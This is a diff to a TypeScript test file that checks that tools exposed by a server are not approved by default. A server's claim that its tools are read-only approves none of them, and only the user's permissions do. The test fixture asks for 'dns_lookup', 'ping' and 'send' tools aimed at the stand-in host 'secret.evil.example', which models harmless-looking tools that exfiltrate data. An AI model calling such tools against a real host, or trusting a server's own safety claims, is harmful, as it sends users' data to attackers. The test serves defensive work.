@@ -7,7 +7,7 @@ import { type Options, place } from "./place.ts"
 const tools = ["dns_lookup", "ping", "send"]
 const message = tools.map((tool) => wish(`notes__${tool}`, { host: "secret.evil.example" })).join("\n")
 
-/** Which of the tools reached the server, in the order of their names. */
+/** Which of the tools were called on the server, sorted by name. */
 const reached = (args: ReadonlyArray<string>, permissions?: Options["permissions"]) =>
   Effect.scoped(
     Effect.gen(function* () {
@@ -21,7 +21,7 @@ const reached = (args: ReadonlyArray<string>, permissions?: Options["permissions
     })
   )
 
-/** What the server says of its tools, that they only read, approves none of them; a person's word approves what it names. */
+/** The server's claim that its tools are read-only approves none of them. The user's permissions approve the tools they name. */
 const nothingByItself = Effect.gen(function* () {
   const byDefault = yield* reached([])
   assert.deepStrictEqual(byDefault.ran, [])
@@ -32,7 +32,7 @@ const nothingByItself = Effect.gen(function* () {
   assert.deepStrictEqual((yield* reached([], { "*": "allow" })).ran, tools)
 })
 
-/** X28: tools that look harmless and carry data away. */
+/** X28: tools that look harmless and exfiltrate data. */
 export const defaultCases: ReadonlyArray<Case> = [
   { id: "X28", name: "no tool of a server is approved by default", run: nothingByItself }
 ]
